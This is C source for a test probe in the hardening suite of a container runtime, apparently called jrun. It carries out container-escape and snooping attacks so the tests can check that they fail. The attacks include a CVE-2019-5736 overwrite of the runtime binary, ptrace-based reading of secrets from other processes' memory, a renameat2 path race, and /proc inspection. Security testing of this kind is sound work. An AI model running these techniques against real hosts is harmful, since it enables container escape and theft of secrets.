/*
 * probe: the container-side half of jrun's hardening tests. Statically linked and copied into
 * a test bundle's rootfs, it makes one system call the way an attacker in the container would
 * and prints what the kernel answered, so a test can tell a seccomp errno from a missing
 * capability from success. Built by the tests with `gcc -static -O2`.
 *
 *   probe sys NR [ARG...]        syscall(NR, ARG...): integers, 0x... for hex
 *   probe mount SRC DST FSTYPE   mount(2)
 *   probe ptrace PID             ptrace(PTRACE_SEIZE, PID): attaches without stopping it
 *   probe write PATH TEXT        open(PATH, O_WRONLY|O_APPEND) and write TEXT
 *   probe read PATH              open(PATH, O_RDONLY) and print up to 200 bytes (non-text as '.')
 *   probe peek PID               what of process PID is reachable through /proc/PID (see peek)
 *   probe memgrep PID TEXT       how often TEXT occurs in the readable memory of PID (/proc/PID/mem)
 *   probe hunt STOPFILE          peeks at every process that appears in the pid namespace, as
 *                                soon as it appears, until STOPFILE exists (at most 120 s)
 *   probe memhunt STOPFILE FILE  stops every process that appears in the pid namespace (ptrace
 *                                seize and interrupt, so it cannot execve meanwhile), counts the
 *                                text FILE holds in its memory as memgrep does, prints its command
 *                                line, lets it go (the text from a file: in the container's
 *                                arguments it would be in every copy of its config)
 *   probe mempolicy              get_mempolicy(2) of the process: prints "mode=M nodes=HEX" after the report
 *   probe swap A B STOPFILE      renameat2(A, B, RENAME_EXCHANGE) in a loop until STOPFILE exists (at
 *                                most 120 s): a neighbour container racing the runtime over a path
 *   probe overwrite STOPFILE     CVE-2019-5736's attack: appends a marker to every file of each new
 *                                process of the pid namespace it can open for writing (exe,
 *                                fd/N, map_files/N), and to each one's exe again once it is gone
 *                                (through an O_PATH fd held meanwhile); "PID WHAT wrote" per success
 *
 * Output: one line "ret=R errno=E" (errno 0 on success); `read` prints the data after it.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <sys/syscall.h>
#include <unistd.h>

static int report(long ret) {
    printf("ret=%ld errno=%d\n", ret, ret < 0 ? errno : 0);
    fflush(stdout);
    return 0;
}

/* Prints the bytes of a file of /proc/PID as one line: NULs as '|', other non-text as '.'. */
static void show_file(int pid, const char *name) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("%d %s open=%d\n", pid, name, errno);
        return;
    }
    long n = read(fd, buf, sizeof buf);
    int err = n < 0 ? errno : 0;
    close(fd);
    printf("%d %s read=%d ", pid, name, err);
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char) buf[i];
        putchar(c == 0 ? '|' : (c >= 0x20 && c < 0x7f) ? c : '.');
    }
    putchar('\n');
}

/* Opens the directory /proc/PID/NAME (its path in path), or reports why it cannot. */
static DIR *open_proc_dir(int pid, const char *name, char *path, size_t size) {
    snprintf(path, size, "/proc/%d/%s", pid, name);
    DIR *d = opendir(path);
    if (!d) {
        printf("%d %s open=%d\n", pid, name, errno);
    }
    return d;
}

/* Lists a directory reached through a magic link of /proc/PID (cwd, root). */
static void show_dir(int pid, const char *name) {
    char path[64];
    DIR *d = open_proc_dir(pid, name, path, sizeof path);
    if (!d) {
        return;
    }
    struct dirent *e;
    while ((e = readdir(d))) {
        printf("%d %s-entry %s\n", pid, name, e->d_name);
    }
    closedir(d);
}

/* Each entry of a /proc/PID directory of magic links (fd, map_files): its target and whether it opens. */
static void show_links(int pid, const char *name) {
    char path[64];
    DIR *d = open_proc_dir(pid, name, path, sizeof path);
    if (!d) {
        return;
    }
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') {
            continue;
        }
        char link[384], target[256];
        snprintf(link, sizeof link, "%s/%s", path, e->d_name);
        long n = readlink(link, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = 0;
        struct stat st;
        if (stat(link, &st) == 0 && S_ISFIFO(st.st_mode)) {
            /* opening the init's exec fifo for reading would release it: not tried */
            printf("%d %s %s -> %s fifo\n", pid, name, e->d_name, n < 0 ? "?" : target);
            continue;
        }
        int fd = open(link, O_RDONLY | O_NONBLOCK);
        int err = fd < 0 ? errno : 0;
        char file[96] = "";
        if (fd >= 0 && !strcmp(name, "map_files")) {
            /* which file it is (tests compare with the host's libraries), and whether it would
               open for writing: opened and closed again, nothing written */
            struct stat opened;
            if (fstat(fd, &opened) == 0) {
                int rw = open(link, O_RDWR | O_NONBLOCK);
                snprintf(file, sizeof file, " dev=%lu ino=%lu rdwr=%d", (unsigned long) opened.st_dev,
                         (unsigned long) opened.st_ino, rw < 0 ? errno : 0);
                if (rw >= 0) {
                    close(rw);
                }
            }
        }
        if (fd >= 0) {
            close(fd);
        }
        printf("%d %s %s -> %s%s open=%d\n", pid, name, e->d_name, n < 0 ? "?" : target, file, err);
    }
    closedir(d);
}

/* The effective capabilities of PID, from its status. */
static void show_caps(int pid, const char *when) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        return;
    }
    long n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n < 0 ? 0 : n] = 0;
    char *cap = strstr(buf, "CapEff:\t");
    if (cap) {
        printf("%d caps-%s %.16s\n", pid, when, cap + 8);
    }
}

/*
 * Everything an attacker in the container tries on a process of its pid namespace, cheapest to
 * most disturbing: its working directory and root (a host directory lists the host), its
 * binary, its fds and mapped files (a host file reopened), its command line and environment,
 * its memory, and PTRACE_SEIZE (with the capabilities it had when seized, then let go).
 */
static void peek(int pid) {
    show_dir(pid, "cwd");
    show_dir(pid, "root");
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    long n = readlink(path, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    int fd = open(path, O_RDONLY);
    printf("%d exe -> %s open=%d\n", pid, n < 0 ? "?" : target, fd < 0 ? errno : 0);
    if (fd >= 0) {
        close(fd);
    }
    show_links(pid, "fd");
    show_links(pid, "map_files");
    show_file(pid, "cmdline");
    show_file(pid, "environ");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    fd = open(path, O_RDONLY);
    printf("%d mem open=%d\n", pid, fd < 0 ? errno : 0);
    if (fd >= 0) {
        close(fd);
    }
    fflush(stdout);
    /* A tracer of its own, whose exit lets the tracee go without stopping it. */
    int tracer = fork();
    if (tracer == 0) {
        long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
        printf("%d ptrace ret=%ld errno=%d\n", pid, r, r < 0 ? errno : 0);
        if (r == 0) {
            show_caps(pid, "seized");
        }
        fflush(stdout);
        _exit(0);
    }
    if (tracer > 0) {
        waitpid(tracer, NULL, 0);
    }
}

static int memgrep(int pid, const char *text) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY);
    if (!maps || mem < 0) {
        printf("%d memgrep open=%d\n", pid, errno);
        return 0;
    }
    size_t n = strlen(text);
    long found = 0;
    static char buf[1 << 20];
    while (fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) != 3 || perms[0] != 'r') {
            continue;
        }
        for (unsigned long at = from; at < to; at += sizeof buf - n) {
            unsigned long size = to - at < sizeof buf ? to - at : sizeof buf;
            long got = pread(mem, buf, size, (off_t) at);
            for (long i = 0; got > 0 && i + (long) n <= got; i++) {
                found += memcmp(buf + i, text, n) == 0;
            }
            if (size < sizeof buf) {
                break;
            }
        }
    }
    printf("%d memgrep found=%ld\n", pid, found);
    return 0;
}

/*
 * Calls visit(pid) once for each process that appears in the pid namespace (but the caller and
 * pid 1), as soon as it appears, until STOPFILE exists (at most 120 s). Returns 0, or -1 when
 * /proc cannot be listed.
 */
static int watch_newcomers(const char *stop, void (*visit)(int pid)) {
    static char seen[1 << 22];
    int self = getpid();
    time_t end = time(NULL) + 120;
    struct stat st;
    while (stat(stop, &st) != 0 && time(NULL) < end) {
        DIR *d = opendir("/proc");
        if (!d) {
            return -1;
        }
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 1 && pid < (int) sizeof seen && pid != self && !seen[pid]) {
                seen[pid] = 1;
                visit(pid);
            }
        }
        closedir(d);
    }
    return 0;
}

static int hunt(const char *stop) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/status", getpid());
    int fd = open(path, O_RDONLY);
    long n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
    buf[n < 0 ? 0 : n] = 0;
    char *cap = strstr(buf, "CapEff:\t");
    printf("self caps %.16s\n", cap ? cap + 8 : "?");
    if (watch_newcomers(stop, peek) != 0) {
        return report(-1);
    }
    printf("hunt done\n");
    return 0;
}

static const char *memhunt_text;

static void memhunt_one(int pid) {
    long seized = ptrace(PTRACE_SEIZE, pid, 0, 0);
    if (seized == 0 && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
        waitpid(pid, NULL, __WALL);
    }
    show_file(pid, "cmdline");
    memgrep(pid, memhunt_text);
    if (seized == 0) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    fflush(stdout);
}

/* memhunt STOPFILE FILE: the secret of a sibling container, read from each newcomer's memory. */
static int memhunt(const char *stop, const char *file) {
    static char text[256];
    int fd = open(file, O_RDONLY);
    long n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (n <= 0) {
        return report(-1);
    }
    text[n] = 0;
    text[strcspn(text, "\n")] = 0;
    memhunt_text = text;
    if (watch_newcomers(stop, memhunt_one) != 0) {
        return report(-1);
    }
    printf("hunt done\n");
    return 0;
}

static int swap(const char *a, const char *b, const char *stop) {
    struct stat st;
    time_t end = time(NULL) + 120;
    long swaps = 0;
    while (stat(stop, &st) != 0 && time(NULL) < end) {
        for (int i = 0; i < 1000; i++) {
            swaps += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
        }
    }
    printf("swaps=%ld\n", swaps);
    return 0;
}

static const char MARKER[] = "\nESCAPED-CVE-2019-5736\n";

/* Appends the marker to PATH if it opens for writing; reports a success as "PID WHAT wrote". */
static void try_write(const char *path, int pid, const char *what) {
    struct stat st;
    if (stat(path, &st) != 0 || !S_ISREG(st.st_mode)) {
        return;
    }
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
    if (fd < 0) {
        return;
    }
    if (write(fd, MARKER, sizeof MARKER - 1) > 0) {
        char target[256];
        long n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = 0;
        printf("%d %s wrote %s\n", pid, what, target);
        fflush(stdout);
    }
    close(fd);
}

/* try_write for each entry of /proc/PID/NAME (fd, map_files). */
static void try_write_links(int pid, const char *name) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    DIR *d = opendir(path);
    if (!d) {
        return;
    }
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] != '.') {
            char link[384];
            snprintf(link, sizeof link, "%s/%s", path, e->d_name);
            try_write(link, pid, name);
        }
    }
    closedir(d);
}

/* The exe of each process overwrite saw, held as O_PATH fds for the attempt after it is gone. */
static int held[4096], held_pid[4096], nheld;
static long looked;

static void overwrite_one(int pid) {
    char path[64];
    looked++;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH);
    if (fd >= 0 && nheld < 4096) {
        held_pid[nheld] = pid;
        held[nheld++] = fd;
    }
    try_write(path, pid, "exe");
    try_write_links(pid, "fd");
    try_write_links(pid, "map_files");
}

static int overwrite(const char *stop) {
    if (watch_newcomers(stop, overwrite_one) != 0) {
        return report(-1);
    }
    /* the classic attack: the binary, busy while it ran, reopened for writing once it is gone */
    for (int i = 0; i < nheld; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        try_write(path, held_pid[i], "exe-held");
    }
    printf("overwrite done: looked at %ld processes\n", looked);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: probe sys|mount|ptrace|write|read|peek|memgrep|hunt|memhunt|mempolicy|swap|overwrite ...\n");
        return 2;
    }
    const char *op = argv[1];
    if (!strcmp(op, "sys") && argc >= 3) {
        long a[6] = {0};
        for (int i = 3; i < argc && i < 9; i++) {
            a[i - 3] = (long) strtoull(argv[i], NULL, 0);
        }
        errno = 0;
        return report(syscall(strtol(argv[2], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]));
    }
    if (!strcmp(op, "mount") && argc == 5) {
        return report(mount(argv[2], argv[3], argv[4], 0, NULL));
    }
    if (!strcmp(op, "ptrace") && argc == 3) {
        return report(ptrace(PTRACE_SEIZE, atoi(argv[2]), 0, 0));
    }
    if (!strcmp(op, "write") && argc == 4) {
        int fd = open(argv[2], O_WRONLY | O_APPEND);
        if (fd < 0) {
            return report(fd);
        }
        return report(write(fd, argv[3], strlen(argv[3])));
    }
    if (!strcmp(op, "read") && argc == 3) {
        int fd = open(argv[2], O_RDONLY);
        if (fd < 0) {
            return report(fd);
        }
        char buf[201];
        long n = read(fd, buf, 200);
        report(n);
        for (long i = 0; i < n; i++) {
            /* text as is, anything else as '.', so that a binary's bytes do not garble the report */
            unsigned char c = (unsigned char) buf[i];
            putchar(c == '\n' || (c >= 0x20 && c < 0x7f) ? c : '.');
        }
        return 0;
    }
    if (!strcmp(op, "peek") && argc == 3) {
        peek(atoi(argv[2]));
        return 0;
    }
    if (!strcmp(op, "memgrep") && argc == 4) {
        return memgrep(atoi(argv[2]), argv[3]);
    }
    if (!strcmp(op, "hunt") && argc == 3) {
        return hunt(argv[2]);
    }
    if (!strcmp(op, "memhunt") && argc == 4) {
        return memhunt(argv[2], argv[3]);
    }
    if (!strcmp(op, "mempolicy") && argc == 2) {
        int mode = -1;
        unsigned long nodes = 0;
        report(syscall(SYS_get_mempolicy, &mode, &nodes, sizeof(nodes) * 8, 0, 0));
        printf("mode=%d nodes=%lx\n", mode, nodes);
        return 0;
    }
    if (!strcmp(op, "swap") && argc == 5) {
        return swap(argv[2], argv[3], argv[4]);
    }
    if (!strcmp(op, "overwrite") && argc == 3) {
        return overwrite(argv[2]);
    }
    fprintf(stderr, "probe: bad arguments\n");
    return 2;
}
